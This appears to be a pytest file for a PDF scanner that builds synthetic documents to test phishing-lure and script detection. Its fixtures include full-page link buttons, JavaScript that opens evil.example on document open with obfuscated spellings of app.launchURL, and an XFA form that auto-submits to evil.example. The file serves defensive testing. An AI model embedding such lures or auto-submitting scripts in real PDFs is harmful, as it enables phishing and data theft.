"""PDFs that are nothing but a button, and their honest twins: posters, tickets, scanned papers, journals, brochures."""

from __future__ import annotations

import pytest

from safecare.examine.engine import Engine

ENGINE = Engine(own=("hopital.example",))
PICTURE = (
    b"<</Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray/Length 64>>\nstream\n"
)
PICTURE += b"\x80" * 64 + b"\nendstream"
SHOWN = b"q 612 0 0 792 0 0 cm /I Do Q"
ADDRESS = b"https://shared-documents.example/view?id=1"
WORDS = b" ".join(
    b"(The concert in the chapel begins at eight, seats are free, the doors open at seven.) Tj" for _ in range(9)
)
FULL = b"0 0 612 792"


def paper(
    target: bytes = ADDRESS, rect: bytes = FULL, text: bytes = b"", pages: int = 1, action: bytes = b"/S/URI/URI(%s)"
) -> bytes:
    """Return a document of `pages` pages, each of them a picture with `text` under a link."""
    shown = SHOWN + (b" BT /F 9 Tf " + text + b" ET" if text else b"")
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(pages))
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%s]/Count %d/MediaBox[0 0 612 792]>>" % (kids, pages),
        3: PICTURE,
        4: b"<</Length %d>>\nstream\n%s\nendstream" % (len(shown), shown),
        5: b"<</Type/Annot/Subtype/Link/Rect[%s]/Border[0 0 0]/A 6 0 R>>" % rect,
        6: b"<</Type/Action" + action % target + b">>",
    }
    objects |= {
        10 + number: b"<</Type/Page/Parent 2 0 R/Resources<</XObject<</I 3 0 R>>>>/Contents 4 0 R/Annots[5 0 R]>>"
        for number in range(pages)
    }
    out, places = b"%PDF-1.7\n", {}
    for number, value in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    start, size = len(out), max(objects) + 1
    table = b"".join(
        b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
        for number in range(1, size)
    )
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


def rules(raw: bytes) -> set[str]:
    return {one.rule for one in ENGINE.judge(raw, "paper.pdf").findings}


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(paper(), id="a picture under a link"),
        pytest.param(paper(rect=b"-20 -20 700 900"), id="a link larger than its page"),
        pytest.param(paper(rect=b"600 780 10 10"), id="corners the other way"),
        pytest.param(paper(text=b"(Secured by your bank) Tj (Open document) Tj"), id="a few words"),
        pytest.param(paper(action=b"/S/SubmitForm/F<</FS/URL/F(%s)>>"), id="a form that is sent"),
        pytest.param(paper(action=b'/S/JavaScript/JS(app.launchURL\\("%s"\\);)'), id="a script that opens a page"),
        pytest.param(paper(b"https://bit.ly/3xYz", b"200 300 400 360"), id="a button with a shortened address"),
        pytest.param(paper(b"http://203.0.113.7/login", b"200 300 400 360"), id="a button with a number for a name"),
    ],
)
def test_a_button_is_a_lure(raw: bytes) -> None:
    assert "pdf.lure.button" in rules(raw)


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(paper(rect=b"72 40 300 60"), id="a poster with its address at the foot"),
        pytest.param(paper(rect=b"100 300 500 420"), id="a brochure with a button"),
        pytest.param(paper(text=WORDS), id="a flyer that can be read"),
        pytest.param(paper(b"https://bit.ly/3xYz", b"72 40 300 60", WORDS), id="a ticket with a shortened address"),
        pytest.param(paper(pages=8), id="a journal of pictures"),
        pytest.param(paper(b"https://www.ameli.fr/assure"), id="an organisation that is known"),
        pytest.param(paper(b"https://intranet.hopital.example/plan"), id="the house itself"),
        pytest.param(paper(b"mailto:concert@chapel.example"), id="an address to write to"),
        pytest.param(paper(action=b"/S/GoTo/D[10 0 R/Fit]%%%s"), id="a place within"),
        pytest.param(paper(b"https://chapel.example", b"0 0 0 0"), id="a scanned paper"),
    ],
)
def test_an_honest_paper_is_none(raw: bytes) -> None:
    assert not {one for one in rules(raw) if "lure" in one}


def test_a_beginning_within_the_trailer_is_read() -> None:
    script = b'/OpenAction<</S/JavaScript/JS(app.launchURL\\("https://evil.example"\\))>>'
    assert "pdf.javascript.reaches" in rules(
        b"%PDF-1.4\n1 0 obj\n<<>>\ntrailer\n<</Root<</Pages<<>>" + script + b">>>>"
    )
    assert not rules(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<</Root<</Pages<<>>>>>>") & {"pdf.javascript.reaches"}


@pytest.mark.parametrize(
    "call", [b"app.la\\\runchURL", b"app.\\launchURL", b"app.la\\\r\nunchURL", b'app["launchURL"]']
)
def test_a_call_is_known_however_it_is_written(call: bytes) -> None:
    script = (
        b'%%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(%s\\("https://evil.example"\\);)>>>>endobj\n'
    )
    assert "pdf.javascript.reaches" in rules(script % call)


def test_a_form_that_teaches_takes_data_beside_it() -> None:
    call = b'this.importAnFDF\\("doc\\\rs.fdf"\\);'
    script = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(" + call + b")>>>>endobj\n"
    assert "pdf.javascript.reaches" not in rules(script)


def test_a_function_calculates_and_calls_nothing() -> None:
    def made(code: bytes) -> bytes:
        function = b"5 0 obj\n<</FunctionType 4/Domain[0 1]/Range[0 1]/Length %d>>\nstream\n%s\nendstream\nendobj\n"
        return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + function % (len(code), code)

    assert "pdf.function-script" in rules(made(b'{ fetch("https://evil.example") }'))
    assert "pdf.function-script" not in rules(made(b"{ 1 exch sub dup 0.5 gt {pop 1} {2 mul} ifelse } % f(x)"))


def test_a_form_that_sends_itself_weighs_more() -> None:
    def made(event: bytes) -> float:
        form = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><field><event activity="%s">' % event
        form += b'<submit target="https://evil.example"/></event></field></template></xdp:xdp>'
        raw = b"%%PDF-1.7\n1 0 obj<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (len(form), form)
        return next(one.weight for one in ENGINE.judge(raw, "form.pdf").findings if one.rule == "pdf.xfa.sends")

    assert made(b"initialize") > 0.5 > made(b"click")
